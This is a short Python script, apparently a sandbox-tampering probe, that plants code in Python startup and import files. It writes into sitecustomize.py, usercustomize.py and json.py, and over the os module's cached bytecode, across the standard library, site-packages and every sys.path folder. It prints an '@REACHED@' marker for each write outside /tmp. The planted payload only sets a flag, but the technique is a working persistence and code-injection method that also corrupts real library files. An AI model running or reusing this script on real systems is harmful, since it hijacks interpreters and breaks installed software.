# Plants code where the next interpreter would load it.
import os
import site
import sys

code = "import builtins; builtins.poisoned = True\n"
for folder in {os.path.dirname(os.__file__), *site.getsitepackages(), *filter(None, sys.path)}:
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "__pycache__/os.cpython-311.pyc"):
        path = os.path.join(folder, name)
        try:
            with open(path, "w") as file:
                file.write(code)
            if not path.startswith("/tmp/"):
                print("@REACHED@ a write to", path)
        except OSError:
            pass
